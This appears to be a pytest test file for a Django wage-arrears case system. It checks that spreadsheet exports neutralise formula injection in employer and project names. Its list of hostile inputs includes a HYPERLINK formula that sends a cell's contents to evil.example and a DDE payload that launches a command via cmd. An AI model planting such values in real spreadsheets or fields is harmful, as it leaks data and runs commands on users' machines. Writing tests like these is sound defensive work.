"""XLSX exports never hold a formula an employer or project name smuggled in (OWASP CSV injection)."""

import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cases.models import Role
from cases.web.ledger_export import COLUMNS
from cases.xlsx import safe_cell, safe_value
from tests import world

pytestmark = pytest.mark.django_db

HEADERS = [h for h, _w in COLUMNS]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _row_of(content: bytes, case_no: str) -> dict:
    ws = load_workbook(io.BytesIO(content)).active
    for row in ws.iter_rows():
        if row[0].value == case_no:
            return dict(zip(HEADERS, row, strict=True))
    raise AssertionError(f"{case_no} not in the export")


def _no_formula_in(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_formula_like_employer_or_project_name_is_exported_as_text(client, name):
    case = world.make_case("360302", employer=name)
    case.project.name = name
    case.project.save(update_fields=["name"])
    client.force_login(world.user(Role.LEADER, "360300"))
    for url in [reverse("cases:export"), reverse("api-case-export")]:
        response = client.get(url, {"q": case.case_no})
        assert response.status_code == 200
        _no_formula_in(response.content)
        row = _row_of(response.content, case.case_no)
        for header, stored in (("用人单位", case.employer.name), ("工程项目", name)):
            assert stored.startswith(("=", "+", "-", "@", "\t", "\r"))  # intake may strip a leading tab
            assert row[header].data_type == "s"
            assert row[header].value == ("'" + stored).replace("\r", "\n")  # XML reads a CR back as LF
        # numbers stay numbers
        assert row["欠薪金额（元）"].data_type == "n"
        assert row["涉及人数"].value == 5


def test_safe_value_keeps_plain_text_numbers_and_dates():
    from datetime import date

    assert safe_value("某建筑有限公司") == "某建筑有限公司"
    assert safe_value("a=b") == "a=b"
    assert safe_value(-5) == -5
    assert safe_value(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_value(date(2026, 1, 1)) == date(2026, 1, 1)
    assert safe_value(None) is None
    for text in HOSTILE:
        assert safe_value(text) == "'" + text
    ws = Workbook(write_only=True).create_sheet()
    assert safe_cell(ws, "=1+1").data_type == "s"
    assert safe_cell(ws, 3).data_type == "n"
